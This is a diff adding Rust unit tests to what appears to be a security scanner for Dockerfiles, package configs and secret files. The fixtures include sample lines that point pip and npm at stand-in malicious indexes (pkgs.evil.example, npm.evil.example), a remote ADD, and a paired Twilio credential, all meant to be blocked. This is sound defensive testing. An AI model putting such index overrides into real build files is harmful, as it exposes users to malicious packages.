@@ -426,3 +426,47 @@ fn allowlist_entries_with_a_leading_dot_cover_subdomains() {
     assert!(!options.host_allowed(Some("sub.exact.org")));
     assert!(!options.host_allowed(None));
 }
+
+#[test]
+fn local_add_and_copy_are_fine_but_remote_add_blocks() {
+    assert!(vet(&dockerfile_with("ADD tools.tar.gz /opt/\nCOPY --chown=user:user . /workspace")).is_empty());
+    let findings = vet(&dockerfile_with("ADD --checksum=sha256:abc https://example.com/t.tgz /opt/"));
+    assert_eq!(rules_of(&findings), vec![("dockerfile.remote-add", Severity::Block, 2)]);
+}
+
+#[test]
+fn package_indexes_other_than_the_registries_block() {
+    let cases = [
+        (
+            "worker/Dockerfile",
+            "FROM ubuntu:22.04\nRUN pip install --extra-index-url https://pkgs.evil.example/simple requests==2.32.3\nUSER user\n",
+            2,
+        ),
+        ("worker/Dockerfile", "FROM ubuntu:22.04\nENV PIP_INDEX_URL=https://pkgs.evil.example/simple\nUSER user\n", 2),
+        (
+            "worker/Dockerfile",
+            "FROM ubuntu:22.04\nRUN npm config set registry https://npm.evil.example/\nUSER user\n",
+            2,
+        ),
+        ("worker/.npmrc", "@acme:registry=https://npm.evil.example/\n", 1),
+        ("worker/requirements.txt", "--extra-index-url https://pkgs.evil.example/simple\nrequests==2.32.3\n", 1),
+    ];
+    for (path, content, line) in cases {
+        let findings = vet(&new_file(path, content));
+        assert_eq!(rules_of(&findings), vec![("package.custom-index", Severity::Block, line)], "{path}: {findings:#?}");
+    }
+    let official =
+        "FROM ubuntu:22.04\nRUN pip install --index-url https://pypi.org/simple requests==2.32.3\nUSER user\n";
+    assert!(vet(&new_file("worker/Dockerfile", official)).is_empty());
+}
+
+#[test]
+fn a_twilio_account_sid_blocks_only_with_its_token_nearby() {
+    let sid = format!("AC{}", "0123456789abcdef".repeat(2));
+    let token = "fedcba9876543210".repeat(2);
+    let alone = vet(&new_file("worker/twilio.env", &format!("ACCOUNT={sid}\n")));
+    assert!(alone.is_empty(), "{alone:#?}");
+    let paired = vet(&new_file("worker/twilio.env", &format!("ACCOUNT={sid}\nREGION=us1\nAUTH={token}\n")));
+    assert_eq!(rules_of(&paired), vec![("secret.twilio", Severity::Block, 3)]);
+    assert!(!paired[0].evidence.contains(&token), "{:?}", paired[0].evidence);
+}
